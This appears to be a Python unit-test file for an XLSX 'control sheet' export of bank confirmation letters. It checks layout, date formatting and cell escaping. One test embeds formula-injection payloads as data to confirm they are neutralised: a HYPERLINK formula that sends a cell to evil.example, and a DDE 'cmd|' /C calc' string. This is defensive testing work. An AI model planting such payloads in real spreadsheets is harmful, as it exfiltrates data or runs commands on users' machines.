"""The control sheet workbook: what a user sees on opening it in a spreadsheet program."""

from __future__ import annotations

import io
from datetime import datetime

from openpyxl import load_workbook

from hub.domain.model import Status
from hub.readmodels import COLUMNS, assemble
from hub.readmodels.xlsx import render_xlsx
from hub.services.sheet_facts import LetterFacts
from tests.unit.test_control_sheet import NOW, TODAY, facts, letter


def workbook() -> object:
    sheet = assemble(facts(
        LetterFacts(letter("BC-1", Status.DELIVERED), "京华商业银行", "bank_api_pull"),
        LetterFacts(letter("BC-2", Status.CANCELLED), "京华商业银行", "bank_api_pull"),
    ), today=TODAY, generated_at=NOW)
    return load_workbook(io.BytesIO(render_xlsx(sheet))).active


def test_the_header_row_is_frozen_filterable_and_every_cell_wraps() -> None:
    ws = workbook()
    head = next(r[0].row for r in ws.iter_rows() if r[0].value == "序号")
    assert [c.value for c in ws[head]] == list(COLUMNS)
    assert ws.freeze_panes == f"C{head + 1}"
    assert ws.auto_filter.ref == f"A{head}:N{head + 2}"
    assert ws.print_title_rows == f"${head}:${head}"  # repeated on every printed page
    assert ws.column_dimensions["L"].width >= 40  # 差异 has room to read
    assert all(c.alignment.wrap_text for c in ws[head + 1])


def test_dates_are_date_cells_and_cancelled_letters_are_struck_through() -> None:
    ws = workbook()
    head = next(r[0].row for r in ws.iter_rows() if r[0].value == "序号")
    sent, cancelled = ws[head + 1], ws[head + 2]
    assert sent[5].value == datetime(2026, 1, 13) and sent[5].number_format == "yyyy-mm-dd"
    assert sent[13].value == "已送达" and not sent[1].font.strike
    assert [cancelled[1].value, cancelled[10].value, cancelled[13].value] == [
        "BC-2", "已撤销，未发函", "已撤销"]
    assert all(c.font.strike for c in cancelled)


def test_text_from_users_is_never_a_formula_nor_breaks_the_workbook() -> None:
    """A responder named like a formula stays text, and a bank's return reason holding a
    vertical tab (which XML forbids) still gives a workbook that opens."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此核对")'
    sheet = assemble(facts(
        LetterFacts(letter("BC-1", Status.RETURNED, status_reason="查无\x0b此户\x00"),
                    hostile, "bank_api_pull"),
        LetterFacts(letter("BC-2", Status.DELIVERED), "@SUM(1+1)*cmd|' /C calc'!A0",
                    "bank_api_pull"),
    ), today=TODAY, generated_at=NOW)
    ws = load_workbook(io.BytesIO(render_xlsx(sheet))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + hostile in texts and "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
    assert any("查无\ufffd此户\ufffd" in t for t in texts)


def test_spreadsheet_text_keeps_plain_text_and_neutralises_the_rest() -> None:
    from hub.domain.text import spreadsheet_text

    assert spreadsheet_text("京华商业银行 -1,000.00") == "京华商业银行 -1,000.00"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_text(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_text("a\x00b\x0bc\x1fd\ufffee") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert spreadsheet_text("第一行\n第二行\t完") == "第一行\n第二行\t完"
